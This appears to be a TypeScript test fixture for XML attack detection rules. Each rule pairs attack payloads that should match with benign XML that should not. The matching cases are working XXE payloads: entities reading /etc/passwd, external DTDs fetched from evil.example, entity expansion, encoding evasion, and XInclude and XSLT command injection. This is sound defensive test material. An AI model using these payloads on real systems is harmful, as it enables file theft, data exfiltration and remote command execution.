import { type Cases, form, post, query, xml as xmlPost } from '../../testing.ts';

export const xmlCases: Readonly<Record<string, Cases>> = {
  '100074': {
    hits: [
      xmlPost('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
      xmlPost('<!DOCTYPE x [<!ENTITY % p PUBLIC "a" "http://evil.example/x.dtd">%p;]>'),
      query('<!ENTITY x SYSTEM "file:///x">'),
    ],
    misses: [
      xmlPost(
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
      ),
      xmlPost('<!DOCTYPE x [<!ENTITY copy "(c)">]><x/>'),
    ],
  },
  '100074B': {
    hits: [xmlPost('<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">')],
    misses: [xmlPost('<!ENTITY b "&lt;&gt;">'), form('&lt;&gt;&amp;&quot;&apos;')],
  },
  '100074C': {
    hits: [
      xmlPost('<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>'),
      xmlPost('<!DOCTYPE r PUBLIC "x" "ftp://evil.example/d"><r/>'),
    ],
    misses: [
      xmlPost(
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd">',
      ),
    ],
  },
  '100074D': {
    hits: [
      post('/x', 'text/xml', Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "c">]>', 'utf16le')),
      xmlPost('<?xml version="1.0" encoding="UTF-7"?>'),
    ],
    misses: [
      xmlPost('<?xml version="1.0" encoding="UTF-8"?><a/>'),
      post('/x', 'text/xml', Buffer.from('<a/>', 'utf16le')),
    ],
  },
  '100075': {
    hits: [
      xmlPost(
        '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>',
      ),
    ],
    misses: [xmlPost('<include href="a.xml"/>'), xmlPost('<x xmlns="http://www.w3.org/2001/XMLSchema"/>')],
  },
  '100075B': {
    hits: [
      xmlPost("<xsl:value-of select=\"php:function('system','id')\"/>"),
      xmlPost('<x xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>'),
    ],
    misses: [
      xmlPost('<xsl:value-of select="title"/>'),
      xmlPost('<x xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'),
    ],
  },
};
